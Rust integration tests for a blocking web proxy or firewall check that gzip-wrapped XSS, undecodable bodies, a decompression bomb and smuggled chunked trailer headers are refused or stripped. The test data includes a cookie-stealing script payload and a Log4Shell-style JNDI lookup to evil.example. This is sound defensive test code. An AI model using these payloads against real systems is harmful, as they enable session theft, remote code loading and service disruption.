    let mut two = gzip(b"q=hello&");
    two.extend_from_slice(&gzip(b"r=<script>alert(document.cookie)</script>"));
    let r = send_raw(
        p.addr,
        &encoded_post("application/x-www-form-urlencoded", "gzip", &two, false),
    )
    .await
    .unwrap();
    assert_eq!(r.status, 403);

    // What cannot be decoded is refused: another coding, a corrupt stream, a bomb (64 MiB
    // of zeros in 64 KiB of gzip, past the 1 MiB inspection limit once inflated).
    for (coding, body, rule) in [
        ("br", gzip(b"{\"a\":1}"), "protocol-530"),
        (
            "gzip",
            b"{\"a\":\"not compressed\"}".to_vec(),
            "protocol-531",
        ),
        ("gzip", gzip(&vec![0u8; 64 << 20]), "protocol-532"),
    ] {
        let r = send_raw(
            p.addr,
            &encoded_post("application/json", coding, &body, false),
        )
        .await
        .unwrap();
        assert_eq!(r.status, 403, "{rule}");
        let id = r.json()["request_id"].as_str().unwrap().to_string();
        let a = p.alert_for(&id).await;
        assert!(
            a["matches"]
                .as_array()
                .unwrap()
                .iter()
                .any(|m| m["rule"] == rule),
            "{rule}: {a}"
        );
    }
    assert_eq!(up.bytes(), before, "the upstream received an attack");
}

/// Chunked trailer fields are never forwarded: the rules do not see them, so neither may the
/// application (a trailer `X-Forwarded-For` or `X-Original-URL` that a framework merges into
/// the headers would pass every check). Small bodies and those over the replay buffer alike.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trailer_fields_never_reach_the_application() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, "mode: block\n").await;
    let trailers = b"0\r\nX-Original-URL: /admin\r\nX-Api: ${jndi:ldap://evil.example/a}\r\n\r\n";
    for size in [3usize, 70_000] {
        let mut raw = b"POST /api/v1/upload HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nTrailer: X-Original-URL, X-Api\r\n\r\n".to_vec();
        let body = filler(size, 1);
        raw.extend_from_slice(format!("{:x}\r\n", body.len()).as_bytes());
        raw.extend_from_slice(&body);
        raw.extend_from_slice(b"\r\n");
        raw.extend_from_slice(trailers);
        let r = send_raw(p.addr, &raw).await.unwrap();
        assert_eq!(r.status, 200, "size {size}");
        let rec = up.last();
        assert_eq!(rec.body, body, "size {size}");
        for gone in ["X-Original-URL: ", "X-Api: ", "jndi"] {
            assert!(
                find(&rec.raw, gone.as_bytes()).is_none(),
                "size {size}: {gone} forwarded: {}",
                String::from_utf8_lossy(&rec.raw[..rec.raw.len().min(400)])
            );
        }
    }
}
